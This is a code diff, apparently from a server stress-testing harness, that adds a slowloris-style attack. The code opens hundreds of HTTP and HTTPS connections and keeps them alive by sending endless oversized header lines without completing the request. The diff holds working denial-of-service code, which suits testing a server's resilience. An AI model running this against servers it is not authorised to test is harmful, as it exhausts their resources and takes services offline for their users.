@@ -1,3 +1,4 @@
+import type { Socket } from 'node:net';
 import { setTimeout as wait } from 'node:timers/promises';
 import { type Attack, held, type Life, openTcp, openTls, repeat } from './attack.ts';
 
@@ -11,9 +12,22 @@ async function pipeline(life: Life): Promise<void> {
   await repeat(socket, 10, () => socket.write(requests));
 }
 
+async function unfinishedHead(life: Life, open: () => Promise<Socket>): Promise<void> {
+  const socket = await open();
+  socket.write(head('GET /', life.target.host));
+  // Small pieces: what they leave behind counts, too.
+  await repeat(socket, 100, () => socket.bytesWritten < 60_000 && socket.write(`X-Much: ${'x'.repeat(2000)}\r\n`));
+}
+
 /** Carried out only when `--only` names them: each would hide the others. */
 export const SINGLE_ATTACKS: Attack[] = [
   { name: 'fifty clients that pipeline requests for an unknown host', width: 50, live: pipeline },
+  {
+    name: 'hundreds of unfinished heads over HTTP',
+    width: 600,
+    live: (life) => unfinishedHead(life, () => openTcp(life.target.httpPort, life)),
+  },
+  { name: 'hundreds of unfinished heads over HTTPS', width: 200, live: (life) => unfinishedHead(life, () => to(life)) },
 ];
 
 /** Clients that abuse HTTP/1.1. */
